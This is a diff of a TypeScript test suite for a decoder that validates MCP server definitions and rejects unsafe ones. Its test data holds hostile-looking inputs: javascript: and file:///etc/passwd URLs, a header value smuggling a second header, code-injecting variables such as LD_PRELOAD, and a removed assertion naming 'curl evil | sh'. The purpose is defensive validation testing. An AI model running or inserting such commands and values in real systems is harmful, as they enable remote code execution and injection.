@@ -6,17 +6,52 @@ import { validateHeaderValue } from "node:http"
 const stdio = { transport: "stdio", command: "server", args: [] }
 const http = { transport: "streamable_http", url: "https://example.com/mcp" }
 
+const text = Schema.String.check(Schema.isPattern(/^[^\0]*$/))
+const secrets = Schema.Record(Schema.Literals(["TOKEN", "x-key", "a_b"]), text)
+const between = (minimum: number, maximum: number) => Schema.Int.check(Schema.isBetween({ minimum, maximum }))
+const duration = Schema.Union([between(10, 86_400_000), Schema.Literals(["1 second", "20 seconds", "2 hours"])])
+const urls = Schema.Literals(["http://example.com", "https://example.com:8080/mcp?a=b#c", "http://[::1]/"])
+
+const options = {
+  requestTimeout: Schema.optionalKey(duration),
+  idleTimeToLive: Schema.optionalKey(duration),
+  maxInFlight: Schema.optionalKey(between(1, 100_000)),
+  rateLimit: Schema.optionalKey(Schema.Struct({ limit: between(1, 1_000_000), window: duration })),
+  protocol: Schema.optionalKey(Schema.Literals(["auto", "legacy", "2026-07-28"])),
+  trusted: Schema.optionalKey(Schema.Boolean),
+  enabled: Schema.optionalKey(Schema.Boolean)
+}
+
+/** Definitions as users write them. */
+const Definition = Schema.Union([
+  Schema.Struct({
+    command: Schema.Literals(["node", "a b"]),
+    args: Schema.optionalKey(Schema.Array(text)),
+    env: Schema.optionalKey(secrets),
+    cwd: Schema.optionalKey(Schema.Literals(["/", "relative"])),
+    encodingErrors: Schema.optionalKey(Schema.Literals(["strict", "ignore", "replace"])),
+    ...options
+  }),
+  Schema.Struct({
+    url: Schema.Union([urls, Schema.Literal("wss://example.com/mcp")]),
+    headers: Schema.optionalKey(
+      Schema.Record(Schema.Literals(["X-A", "authorization"]), Schema.Literals(["", "Bearer x", "\u00e9"]))
+    ),
+    addresses: Schema.optionalKey(Schema.Literals(["any", "public"])),
+    ...options
+  })
+])
+
 const problemsOf = (raw: unknown) =>
   Effect.map(
     Effect.flip(ServerConfig.decode(raw)),
     ({ problems }) => problems.map((problem) => `${problem._tag} ${ConfigError.jsonPath(problem.path)}`)
   )
 
-describe("decoding a server definition", () => {
+describe("decode", () => {
   it.effect("fills in the defaults of a stdio server", () =>
     Effect.gen(function*() {
-      const config = yield* ServerConfig.decode({ command: "server" })
-      assert.deepStrictEqual(yield* ServerConfig.decode(stdio), config)
+      const config = yield* ServerConfig.decode(stdio)
       assert.deepStrictEqual(config, {
         transport: "stdio",
         command: "server",
@@ -44,7 +79,7 @@ describe("decoding a server definition", () => {
       })
     }))
 
-  it.effect("fills in the defaults of servers with a URL", () =>
+  it.effect("fills in the defaults of a remote server", () =>
     Effect.gen(function*() {
       for (const transport of ["streamable_http", "sse", "websocket"]) {
         const url = transport === "websocket" ? "wss://example.com/mcp" : http.url
@@ -59,68 +94,91 @@ describe("decoding a server definition", () => {
       }
     }))
 
-  it.effect("accepts aliases of keys and transports, and decodes them to their canonical names", () =>
+  const inferred: ReadonlyArray<readonly [title: string, given: ServerConfig.ServerConfigInput, canonical: unknown]> = [
+    ["stdio from command", { command: "x" }, { transport: "stdio", command: "x", args: [] }],
+    ["stdio from a command list", { command: ["x", "a", "b"] }, { transport: "stdio", command: "x", args: ["a", "b"] }],
+    ["streamable_http with sseFallback from url", { url: http.url }, { ...http, sseFallback: true }],
+    ["streamable_http with sseFallback from httpUrl", { httpUrl: http.url }, { ...http, sseFallback: true }],
+    ["streamable_http without sseFallback, if it says so", { url: http.url, sseFallback: false }, http],
+    ["websocket from a wss:// URL", { url: "wss://h/x" }, { transport: "websocket", url: "wss://h/x" }]
+  ]
+  for (const [title, given, canonical] of inferred) {
+    it.effect(`infers ${title}`, () =>
+      Effect.gen(function*() {
+        assert.deepStrictEqual(yield* ServerConfig.decode(given), yield* ServerConfig.decode(canonical))
+      }))
+  }
+
+  it.effect("treats an undefined key as an absent key", () =>
     Effect.gen(function*() {
-      const decoded = yield* Effect.forEach([
-        { type: "http", url: http.url },
-        { type: "streamable-http", httpUrl: http.url, sseFallback: true },
-        { transport: "streamableHttp", serverUrl: http.url, sseFallback: true },
-        { transport: "remote", baseUrl: http.url }
-      ], ServerConfig.decode)
-      assert.deepInclude(yield* ServerConfig.decode(http), { sseFallback: false })
-      assert.deepInclude(yield* ServerConfig.decode({ ...http, transport: "http", sseFallback: false }), {
-        sseFallback: false
-      })
-      for (const config of decoded) assert.deepStrictEqual(config, decoded[0])
-      const local = yield* ServerConfig.decode({
-        type: "local",
-        command: ["npx", "-y", "server"],
-        environment: { A: "1" },
-        enabled: false,
-        encoding_error_handler: "ignore"
-      })
-      assert.deepInclude(local, {
-        transport: "stdio",
-        command: "npx",
-        args: ["-y", "server"],
-        disabled: true,
-        encodingErrors: "ignore"
-      })
-      assert.strictEqual((yield* ServerConfig.decode({ type: "ws", url: "ws://h/x" })).transport, "websocket")
+      const given: ServerConfig.ServerConfigInput = { command: "server", cwd: undefined, requestTimeout: undefined }
+      assert.deepStrictEqual(yield* ServerConfig.decode(given), yield* ServerConfig.decode(stdio))
     }))
 
-  it.effect("infers the transport from the command, or from the scheme of the URL", () =>
-    Effect.gen(function*() {
-      const transportOf = (raw: object) => Effect.map(ServerConfig.decode(raw), ({ transport }) => transport)
-      assert.strictEqual(yield* transportOf({ command: "server" }), "stdio")
-      assert.strictEqual(yield* transportOf({ command: ["server", "--stdio"] }), "stdio")
-      for (const url of ["ws://h/mcp", "wss://h/mcp", "WSS://h/mcp"]) {
-        assert.strictEqual(yield* transportOf({ url }), "websocket", url)
-      }
-      for (const key of ["url", "httpUrl", "serverUrl", "baseUrl"]) {
-        const config = yield* ServerConfig.decode({ [key]: http.url })
-        assert.deepInclude(config, { transport: "streamable_http", url: http.url, sseFallback: true }, key)
-      }
-      // A definition that names its transport, or decides about the fallback, is taken at its word.
-      assert.deepInclude(yield* ServerConfig.decode({ url: http.url, sseFallback: false }), { sseFallback: false })
-      assert.strictEqual(yield* transportOf({ url: http.url, transport: "sse" }), "sse")
-    }))
+  const keyAliases: ReadonlyArray<readonly [alias: string, key: string, base: object, values: Schema.Schema<unknown>]> =
+    [
+      ["type", "transport", { command: "x" }, Schema.Literals(["stdio", "local"])],
+      ["type", "transport", { url: "wss://h" }, Schema.Literals(["websocket", "ws"])],
+      ["type", "transport", { url: http.url }, Schema.Literals(["streamable_http", "streamable-http", "http", "sse"])],
+      ["httpUrl", "url", { transport: "sse" }, urls],
+      ["serverUrl", "url", { transport: "streamable_http" }, urls],
+      ["baseUrl", "url", {}, urls],
+      ["environment", "env", stdio, secrets],
+      ["envs", "env", stdio, secrets],
+      ["timeout", "requestTimeout", http, duration],
+      ["encoding_error_handler", "encodingErrors", stdio, Schema.Literals(["strict", "ignore", "replace"])]
+    ]
+  for (const [alias, key, base, values] of keyAliases) {
+    it.effect.prop(
+      `decodes ${alias} as ${key} in ${JSON.stringify(base)}`,
+      [values],
+      ([value]) =>
+        Effect.gen(function*() {
+          assert.deepStrictEqual(
+            yield* ServerConfig.decode({ ...base, [alias]: value }),
+            yield* ServerConfig.decode({ ...base, [key]: value })
+          )
+        })
+    )
+  }
 
-  it.effect("decodes a decoded definition to an equal one", () =>
-    Effect.gen(function*() {
-      const config = yield* ServerConfig.decode({
-        ...stdio,
-        env: { TOKEN: "secret" },
-        cwd: "/tmp",
-        requestTimeout: "7 seconds",
-        clientInfo: { name: "n", version: "1", title: "N" }
+  it.effect.prop(
+    "decodes enabled as the opposite of disabled",
+    [Schema.Boolean],
+    ([enabled]) =>
+      Effect.gen(function*() {
+        assert.strictEqual((yield* ServerConfig.decode({ ...stdio, enabled })).disabled, !enabled)
       })
-      assert.deepStrictEqual(yield* ServerConfig.decode(config), config)
-      const remote = yield* ServerConfig.decode({ ...http, headers: { Authorization: Redacted.make("Bearer x") } })
-      assert.deepStrictEqual(yield* ServerConfig.decode(remote), remote)
+  )
+
+  const transportAliases: ReadonlyArray<readonly [alias: string, canonical: object]> = [
+    ["streamable-http", { transport: "streamable_http" }],
+    ["streamableHttp", { transport: "streamable_http" }],
+    ["http", { transport: "streamable_http", sseFallback: true }],
+    ["remote", { transport: "streamable_http", sseFallback: true }],
+    ["local", { transport: "stdio" }],
+    ["ws", { transport: "websocket" }]
+  ]
+  for (const [alias, canonical] of transportAliases) {
+    it.effect(`decodes the transport ${alias} as ${JSON.stringify(canonical)}`, () =>
+      Effect.gen(function*() {
+        const rest = alias === "local" ? { command: "x" } : { url: alias === "ws" ? "ws://h" : "http://h" }
+        assert.deepStrictEqual(
+          yield* ServerConfig.decode({ ...rest, transport: alias }),
+          yield* ServerConfig.decode({ ...rest, ...canonical })
+        )
+      }))
+  }
+
+  it.effect.prop("changes nothing in a decoded definition", [Definition], ([definition]) =>
+    Effect.gen(function*() {
+      const decoded = yield* ServerConfig.decode(definition)
+      const input: ServerConfig.ServerConfigInput = decoded
+      assert.deepStrictEqual(yield* ServerConfig.decode(input), decoded)
+      assert.isTrue(Schema.is(ServerConfig.ServerConfig)(decoded))
     }))
 
-  it.effect("redacts the values of variables and headers", () =>
+  it.effect("redacts variables and headers in JSON and text", () =>
     Effect.gen(function*() {
       const local = yield* ServerConfig.decode({ ...stdio, env: { TOKEN: "s3cret" } })
       const remote = yield* ServerConfig.decode({ ...http, headers: { Authorization: "Bearer s3cret" } })
@@ -131,61 +189,56 @@ describe("decoding a server definition", () => {
     }))
 })
 
-describe("decoding an invalid server definition", () => {
+describe("decode of an invalid definition", () => {
   const table: ReadonlyArray<readonly [title: string, raw: unknown, problems: ReadonlyArray<string>]> = [
-    ["a definition that is not an object", "stdio", ["InvalidValue $"]],
+    ["a definition that is text", "stdio", ["InvalidValue $"]],
     ["a definition that is a list", [], ["InvalidValue $"]],
-    ["a definition without transport, command and URL", { args: [] }, ["MissingTransport $"]],
-    ["a definition whose only command key is mistyped, and names that key", { comand: "x", args: [] }, [
-      "MissingTransport $",
-      "UnknownKey $.comand"
-    ]],
-    ["a transport that does not exist", { ...stdio, transport: "carrier pigeon" }, ["UnsupportedTransport $.transport"]],
-    ["a transport that is not a string, under the alias type", { type: 7 }, ["UnsupportedTransport $.type"]],
-    ["a stdio definition without a command", { transport: "stdio", args: [] }, ["MissingKey $"]],
-    ["a URL on a server whose command makes it a stdio server", { command: "x", url: http.url }, [
-      "MisplacedKey $.url"
-    ]],
-    ["an sse definition without a URL", { transport: "sse" }, ["MissingKey $"]],
+    ["a missing transport", { args: [] }, ["MissingTransport $"]],
+    ["an unsupported transport", { ...stdio, transport: "carrier pigeon" }, ["UnsupportedTransport $.transport"]],
+    ["an unsupported type", { type: 7 }, ["UnsupportedTransport $.type"]],
+    ["a missing command", { transport: "stdio", args: [] }, ["MissingKey $"]],
+    ["a missing url", { transport: "sse" }, ["MissingKey $"]],
     ["an empty command", { ...stdio, command: "" }, ["InvalidValue $.command"]],
-    ["a command with a NUL character", { ...stdio, command: "a\0b" }, ["InvalidValue $.command"]],
-    ["an argument with a NUL character", { ...stdio, args: ["a", "b\0c"] }, ["InvalidValue $.args[1]"]],
-    ["the unknown key shell", { ...stdio, shell: true }, ["UnknownKey $.shell"]],
-    ["arguments that are not a list", { ...stdio, args: "a b" }, ["InvalidValue $.args"]],
-    ["each argument that is not a string", { ...stdio, args: ["a", 1, 2] }, [
+    ["a NUL in a command", { ...stdio, command: "a\0b" }, ["InvalidValue $.command"]],
+    ["a NUL in an argument", { ...stdio, args: ["a", "b\0c"] }, ["InvalidValue $.args[1]"]],
+    ["a shell", { ...stdio, shell: true }, ["UnknownKey $.shell"]],
+    ["args as text", { ...stdio, args: "a b" }, ["InvalidValue $.args"]],
+    ["each argument that is a number", { ...stdio, args: ["a", 1, 2] }, [
       "InvalidValue $.args[1]",
       "InvalidValue $.args[2]"
     ]],
-    ["a variable whose value is not a string", { ...stdio, env: { A: 1 } }, ["InvalidValue $.env.A"]],
-    ["a variable whose name contains =", { ...stdio, env: { "A=B": "x" } }, ["InvalidValue $.env[\"A=B\"]"]],
+    ["a variable whose value is a number", { ...stdio, env: { A: 1 } }, ["InvalidValue $.env.A"]],
+    ["a variable name with =", { ...stdio, env: { "A=B": "x" } }, ["InvalidValue $.env[\"A=B\"]"]],
     ["a URL without a scheme", { ...http, url: "example.com/mcp" }, ["InvalidUrl $.url"]],
-    ["a URL with the scheme ftp", { ...http, url: "ftp://example.com" }, ["InvalidUrl $.url"]],
-    ["a javascript URL", { ...http, url: "javascript:alert(1)" }, ["InvalidUrl $.url"]],
-    ["a javascript URL with a host", { ...http, url: "javascript://example.com/%0aalert(1)" }, ["InvalidUrl $.url"]],
-    ["a file URL", { transport: "sse", url: "file:///etc/passwd" }, ["InvalidUrl $.url"]],
-    ["a data URL", { ...http, url: "data:text/plain,x" }, ["InvalidUrl $.url"]],
-    ["a WebSocket URL for streamable_http", { ...http, url: "wss://example.com" }, ["InvalidUrl $.url"]],
-    ["an HTTP URL for websocket", { transport: "websocket", url: http.url }, ["InvalidUrl $.url"]],
-    ["a URL with a user name and a password", { ...http, url: "https://me:secret@example.com" }, ["InvalidUrl $.url"]],
-    ["a URL with a user name only", { ...http, url: "https://me@example.com" }, ["InvalidUrl $.url"]],
-    ["an invalid URL under the alias serverUrl", { type: "http", serverUrl: "nope" }, ["InvalidUrl $.serverUrl"]],
+    ["a URL of another scheme", { ...http, url: "ftp://example.com" }, ["InvalidUrl $.url"]],
+    ["a script as URL", { ...http, url: "javascript:alert(1)" }, ["InvalidUrl $.url"]],
+    ["a script as URL with an authority", { ...http, url: "javascript://example.com/%0aalert(1)" }, [
+      "InvalidUrl $.url"
+    ]],
+    ["a file as URL", { transport: "sse", url: "file:///etc/passwd" }, ["InvalidUrl $.url"]],
+    ["data as URL", { ...http, url: "data:text/plain,x" }, ["InvalidUrl $.url"]],
+    ["a WebSocket URL for HTTP", { ...http, url: "wss://example.com" }, ["InvalidUrl $.url"]],
+    ["an HTTP URL for a WebSocket", { transport: "websocket", url: http.url }, ["InvalidUrl $.url"]],
+    ["a URL with credentials", { ...http, url: "https://me:secret@example.com" }, ["InvalidUrl $.url"]],
+    ["a URL with a user name", { ...http, url: "https://me@example.com" }, ["InvalidUrl $.url"]],
+    ["an invalid URL under an alias", { type: "http", serverUrl: "nope" }, ["InvalidUrl $.serverUrl"]],
     ["an unknown key", { ...stdio, shelf: true }, ["UnknownKey $.shelf"]],
-    ["a key that has the name of an object's built-in member", { ...stdio, constructor: 1 }, ["UnknownKey $.constructor"]],
-    ["headers on a stdio server", { ...stdio, headers: {} }, ["MisplacedKey $.headers"]],
-    ["arguments on an HTTP server", { ...http, args: [] }, ["MisplacedKey $.args"]],
-    ["a key that is given under two names", { ...http, baseUrl: http.url }, ["ConflictingKeys $"]],
-    ["arguments that are given in both command and args", { ...stdio, command: ["a", "b"], args: ["c"] }, ["ConflictingKeys $"]],
-    ["a duration that does not parse", { ...stdio, requestTimeout: "soon" }, ["InvalidDuration $.requestTimeout"]],
+    ["a key with the name of an inherited property", { ...stdio, constructor: 1 }, ["UnknownKey $.constructor"]],
+    ["headers on stdio", { ...stdio, headers: {} }, ["MisplacedKey $.headers"]],
+    ["args on HTTP", { ...http, args: [] }, ["MisplacedKey $.args"]],
+    ["a key under two names", { ...http, baseUrl: http.url }, ["ConflictingKeys $"]],
+    ["arguments given twice", { ...stdio, command: ["a", "b"], args: ["c"] }, ["ConflictingKeys $"]],
+    ["a duration without unit", { ...stdio, requestTimeout: "soon" }, ["InvalidDuration $.requestTimeout"]],
     ["a negative duration", { ...stdio, connectTimeout: -1 }, ["InvalidDuration $.connectTimeout"]],
-    ["the duration NaN", { ...stdio, totalTimeout: Number.NaN }, ["InvalidDuration $.totalTimeout"]],
-    ["an infinite duration", { ...stdio, idleTimeToLive: "Infinity" }, ["InvalidDuration $.idleTimeToLive"]],
+    ["a duration that is NaN", { ...stdio, totalTimeout: Number.NaN }, ["InvalidDuration $.totalTimeout"]],
+    ["an endless duration", { ...stdio, idleTimeToLive: "Infinity" }, ["InvalidDuration $.idleTimeToLive"]],
     ["a duration above its maximum", { ...stdio, requestTimeout: "1000 days" }, ["InvalidDuration $.requestTimeout"]],
-    ["a message size below its minimum", { ...stdio, maxMessageBytes: 10 }, ["InvalidValue $.maxMessageBytes"]],
-    ["a protocol that does not exist", { ...stdio, protocol: "2099-01-01" }, ["InvalidValue $.protocol"]],
-    ["an encoding that does not exist", { ...stdio, encoding: "ebcdic" }, ["InvalidValue $.encoding"]],
+    ["a size below its minimum", { ...stdio, maxMessageBytes: 10 }, ["InvalidValue $.maxMessageBytes"]],
+    ["an unknown protocol", { ...stdio, protocol: "2099-01-01" }, ["InvalidValue $.protocol"]],
+    ["an unknown encoding", { ...stdio, encoding: "ebcdic" }, ["InvalidValue $.encoding"]],
     ["client info without a version", { ...stdio, clientInfo: { name: "n" } }, ["InvalidValue $.clientInfo.version"]],
-    ["a header whose name contains a space", { ...http, headers: { "a b": "x" } }, ["InvalidValue $.headers[\"a b\"]"]],
-    ["each header that the transport sets itself", {
+    ["a header name with a space", { ...http, headers: { "a b": "x" } }, ["InvalidValue $.headers[\"a b\"]"]],
+    ["each header that the transport writes", {
       ...http,
       headers: { "Mcp-Session-Id": "x", "MCP-PROTOCOL-VERSION": "x", host: "x", "Content-Length": "1", Fine: "x" }
     }, [
@@ -199,7 +252,7 @@ describe("decoding an invalid server definition", () => {
       url: "wss://example.com",
       headers: { "Sec-WebSocket-Protocol": "other" }
     }, ["ReservedHeader $.headers[\"Sec-WebSocket-Protocol\"]"]],
-    ["each variable that changes which code a program runs", {
+    ["each variable that changes which code runs", {
       ...stdio,
       env: { NODE_OPTIONS: "x", LD_PRELOAD: "x", DYLD_INSERT_LIBRARIES: "x", PYTHONSTARTUP: "x", FINE: "x" }
     }, [
@@ -208,19 +261,19 @@ describe("decoding an invalid server definition", () => {
       "UnsafeVariable $.env.DYLD_INSERT_LIBRARIES",
       "UnsafeVariable $.env.PYTHONSTARTUP"
     ]],
-    ["a variable that disables TLS checks, in any letter case and under an alias of env", {
+    ["a variable that disables TLS checks, in any letter case", {
       ...stdio,
       allowUnsafeEnv: false,
       environment: { Node_Tls_Reject_Unauthorized: "0" }
     }, ["UnsafeVariable $.environment.Node_Tls_Reject_Unauthorized"]],
     [
-      "a definition with several problems, and reports all of them",
+      "every invalid key at once",
       { ...stdio, command: "", headers: {}, nonsense: 1, requestTimeout: "never" },
       ["InvalidValue $.command", "MisplacedKey $.headers", "UnknownKey $.nonsense", "InvalidDuration $.requestTimeout"]
     ]
   ]
   for (const [title, raw, expected] of table) {
-    it.effect(`refuses ${title}`, () =>
+    it.effect(`rejects ${title}`, () =>
       Effect.map(problemsOf(raw), (problems) => assert.deepStrictEqual(problems, expected)))
   }
 
@@ -228,13 +281,13 @@ describe("decoding an invalid server definition", () => {
     const [title, value] of [
       ["CR", "s3cret\r"],
       ["LF", "s3\ncret"],
-      ["a second header line", "s3cret\r\nhost: evil"],
+      ["a second header", "s3cret\r\nhost: evil"],
       ["NUL", "s3cret\0"],
       ["DEL", "s3cret\x7f"],
       ["a character outside Latin-1", "s3cret→"]
     ] as const
   ) {
-    it.effect(`refuses ${title} in the value of a header, and does not quote the value`, () =>
+    it.effect(`rejects ${title} in a header before an HTTP client can quote the value`, () =>
       Effect.gen(function*() {
         for (const remote of [http, { transport: "sse", url: http.url }, { transport: "websocket", url: "wss://h" }]) {
           const error = yield* Effect.flip(ServerConfig.decode({ ...remote, headers: { Authorization: value } }))
@@ -248,7 +301,7 @@ describe("decoding an invalid server definition", () => {
   }
 
   it.effect.prop(
-    "accepts only header values that HTTP clients accept",
+    "rejects every header that an HTTP client would reject",
     [Schema.String],
     ([value]) =>
       Effect.map(Effect.result(ServerConfig.decode({ ...http, headers: { A: value } })), (decoded) => {
@@ -258,53 +311,77 @@ describe("decoding an invalid server definition", () => {
       })
   )
 
-  it.effect("accepts unsafe variables only with allowUnsafeEnv, in the bare schema too", () =>
+  it.effect("accepts unsafe variables with allowUnsafeEnv", () =>
     Effect.gen(function*() {
       const given = { ...stdio, env: { NODE_OPTIONS: "--max-old-space-size=64" }, allowUnsafeEnv: true }
       const config = yield* ServerConfig.decode(given)
       assert.deepStrictEqual(yield* ServerConfig.decode(config), config)
-      // The schema without the decoder must check the variables too.
+      // The bare schema applies the rule, too.
       const bare = { ...given, allowUnsafeEnv: false, transport: "stdio" as const }
       assert.isTrue(Schema.is(ServerConfig.ServerConfig)(config))
       assert.strictEqual(Schema.decodeResult(ServerConfig.ServerConfig)(bare)._tag, "Failure")
     }))
 
-  it.effect("names the keys and transports that would be valid", () =>
-    Effect.gen(function*() {
-      const missing = yield* Effect.flip(ServerConfig.decode({}))
-      assert.strictEqual(
-        missing.message,
-        "the transport is missing; set \"command\", \"url\" or \"transport\" (stdio, streamable_http, sse or websocket)"
-      )
-      const misplaced = yield* Effect.flip(ServerConfig.decode({ ...stdio, headers: {} }))
-      assert.strictEqual(
-        misplaced.message,
-        "$.headers: \"headers\" applies to streamable_http, sse and websocket servers, not to stdio servers"
-      )
-      const unknown = yield* Effect.flip(ServerConfig.decode({ transport: "carrier pigeon" }))
-      assert.strictEqual(
-        unknown.message,
-        "$.transport: the transport \"carrier pigeon\" is not supported; use stdio, streamable_http, sse or websocket"
-      )
-    }))
+  it.effect("reports invalid names and invalid values of one object at once", () =>
+    Effect.map(
+      problemsOf({ ...http, headers: { "a b": "x", host: "x", c: 1, d: "s3\ncret" } }),
+      (problems) =>
+        assert.deepStrictEqual(problems, [
+          "InvalidValue $.headers[\"a b\"]",
+          "ReservedHeader $.headers.host",
+          "InvalidValue $.headers.c",
+          "InvalidValue $.headers.d"
+        ])
+    ))
 
-  it.effect("says in each message where the problem is and what the value must be", () =>
-    Effect.gen(function*() {
-      const raw = { command: "x", args: ["a", 1], requestTimeout: "soon", encoding: "ebcdic", env: { A: 1, "B=": "" } }
-      const { message } = yield* Effect.flip(
-        ServerConfig.decodeServers({ servers: { files: raw, remote: { type: "sse" } }, source: "mcp.json" })
-      )
-      assert.deepStrictEqual(message.split("\n"), [
-        "mcp.json: server \"files\" at $.servers.files.args[1]: \"args[1]\" must be a string without NUL characters",
-        "mcp.json: server \"files\" at $.servers.files.requestTimeout: \"requestTimeout\" must be a duration from 1 ms to 24 hours, written as milliseconds or as text such as \"20 seconds\"",
-        "mcp.json: server \"files\" at $.servers.files.encoding: \"encoding\" must be \"utf-8\", \"utf-16le\" or \"latin1\"",
-        "mcp.json: server \"files\" at $.servers.files.env[\"B=\"]: \"B=\" must be a variable with a non-empty name without = and NUL",
-        "mcp.json: server \"files\" at $.servers.files.env.A: \"A\" must be a string without NUL characters",
-        "mcp.json: server \"remote\" at $.servers.remote: \"url\" is missing; it must be an http:// or https:// URL without user name and password"
-      ])
-    }))
+  const expectations: ReadonlyArray<readonly [title: string, raw: unknown, message: string]> = [
+    [
+      "a key",
+      { ...stdio, connectTimeout: 0 },
+      "$.connectTimeout: \"connectTimeout\" must be a duration from 1 ms to " +
+      "10 minutes, in milliseconds or such as \"20 seconds\""
+    ],
+    [
+      "an alias",
+      { ...stdio, timeout: "soon" },
+      "$.timeout: \"timeout\" must be a duration from 1 ms to 24 hours, in " +
+      "milliseconds or such as \"20 seconds\""
+    ],
+    ["a list item", { ...stdio, args: ["a", 1] }, "$.args[1]: \"args[1]\" must be a string without NUL characters"],
+    [
+      "a member",
+      { ...http, rateLimit: { limit: 0, window: 1 } },
+      "$.rateLimit.limit: \"limit\" must be a whole number " +
+      "from 1 to 1000000"
+    ],
+    [
+      "a missing member",
+      { ...http, clientInfo: { name: "n" } },
+      "$.clientInfo.version: \"version\" must be a non-empty " +
+      "string without NUL characters"
+    ],
+    ["a variable", { ...stdio, env: { A: 1 } }, "$.env.A: \"A\" must be a string without NUL characters"],
+    [
+      "a variable name",
+      { ...stdio, env: { "": "1" } },
+      "$.env[\"\"]: \"\" must be a variable with a non-empty name " +
+      "without = and NUL"
+    ],
+    ["an object of secrets", { ...stdio, env: "A=1" }, "$.env: \"env\" must be an object of strings by variable name"],
+    ["a choice", { ...http, addresses: "all" }, "$.addresses: \"addresses\" must be \"any\" or \"public\""],
+    [
+      "a URL",
+      { transport: "websocket", url: "http://h" },
+      "$.url: \"url\" must be a ws:// or wss:// URL without user " +
+      "name and password"
+    ]
+  ]
+  for (const [title, raw, message] of expectations) {
+    it.effect(`names the expectation of ${title}`, () =>
+      Effect.map(Effect.flip(ServerConfig.decode(raw)), (error) => assert.strictEqual(error.message, message)))
+  }
 
-  it.effect("reports the problems of all servers with their places", () =>
+  it.effect("reports the problems of all servers with source, server and path", () =>
     Effect.gen(function*() {
       const error = yield* Effect.flip(ServerConfig.decodeServers({
         servers: { good: stdio, bad: { ...stdio, args: 1 }, worse: { transport: "sse" } },
@@ -321,7 +398,7 @@ describe("decoding an invalid server definition", () => {
     }))
 
   it.effect.prop(
-    "never quotes a value in an error",
+    "never quotes a value in a problem",
     [
       Schema.String.check(Schema.isMinLength(8)),
       Schema.Literals(["url", "command", "headers", "env", "requestTimeout"])
@@ -343,7 +420,7 @@ describe("decoding an invalid server definition", () => {
 })
 
 describe("allowCommand", () => {
-  it.effect("refuses each command that the application does not allow, without quoting its arguments", () =>
+  it.effect("rejects every program that the application does not allow", () =>
     Effect.gen(function*() {
       const servers = {
         good: { transport: "stdio", command: "node", args: ["server.js"] },
@@ -361,11 +438,70 @@ describe("allowCommand", () => {
           "DisallowedCommand $.servers.worse.command: this application does not allow the command \"npx\""
         ]
       )
-      // A program that asks its user shows the arguments, which the problem holds as data.
-      assert.deepStrictEqual(
-        problems.map((problem) => problem._tag === "DisallowedCommand" ? [problem.command, ...problem.args] : []),
-        [["sh", "-c", "curl evil | sh"], ["npx", "-y", "anything"]]
-      )
       assert.strictEqual((yield* ServerConfig.decodeServers({ servers })).length, 4)
     }))
+})
+
+describe("ServerConfigInput", () => {
+  const accepted: Readonly<Record<string, ServerConfig.ServerConfigInput>> = {
+    command: { command: "npx", args: ["-y", "server"] },
+    "a command list": { type: "local", command: ["npx", "-y", "server"], environment: { A: "1" }, enabled: true },
+    "the alias envs": { command: "npx", envs: { A: "1" }, timeout: 1000, encoding_error_handler: "ignore" },
+    url: { url: "https://example.com/mcp" },
+    "a type": { type: "http", url: "https://example.com/mcp", headers: { authorization: "Bearer x" } },
+    "the transport remote": { transport: "remote", baseUrl: "https://example.com/mcp", requestTimeout: "1 minute" },
+    "the type sse": { type: "sse", serverUrl: "https://example.com/mcp" },
+    "the transport sse": { transport: "sse", httpUrl: "https://example.com/mcp" },
+    "the type ws": { type: "ws", url: "wss://example.com/mcp" },
+    "a redacted secret": { command: "npx", env: { TOKEN: Redacted.make("s3cret") } },
+    "a Duration": { command: "npx", connectTimeout: Duration.seconds(3) }
+  }
+  for (const [title, definition] of Object.entries(accepted)) {
+    it.effect(`accepts ${title}, and decode does too`, () => Effect.asVoid(ServerConfig.decode(definition)))
+  }
+
+  it.effect("rejects at compile time what decode rejects at run time", () =>
+    Effect.gen(function*() {
+      const rejected: ReadonlyArray<ServerConfig.ServerConfigInput> = [
+        // @ts-expect-error neither command nor url
+        {},
+        // @ts-expect-error a transport without its url
+        { transport: "sse" },
+        // @ts-expect-error an unknown transport
+        { transport: "carrier pigeon", command: "x" },
+        // @ts-expect-error a key of remote servers on stdio
+        { command: "x", headers: {} },
+        // @ts-expect-error a key of stdio servers on a remote server
+        { url: "https://h", args: [] },
+        // @ts-expect-error an unknown key
+        { command: "x", shell: true },
+        // @ts-expect-error a value of the wrong type
+        { command: "x", maxInFlight: "many" }
+      ]
+      for (const definition of rejected) yield* Effect.flip(ServerConfig.decode(definition))
+    }))
+
+  it("narrows decoded definitions by transport to named interfaces", () => {
+    const name = (config: ServerConfig.ServerConfig): string => {
+      switch (config.transport) {
+        case "stdio": {
+          const server: ServerConfig.StdioServer = config
+          return server.command
+        }
+        case "streamable_http": {
+          const server: ServerConfig.StreamableHttpServer = config
+          return server.url
+        }
+        case "sse": {
+          const server: ServerConfig.SseServer = config
+          return server.url
+        }
+        case "websocket": {
+          const server: ServerConfig.WebSocketServer = config
+          return server.url
+        }
+      }
+    }
+    assert.strictEqual(name(Effect.runSync(ServerConfig.decode({ command: "x" }))), "x")
+  })
 })
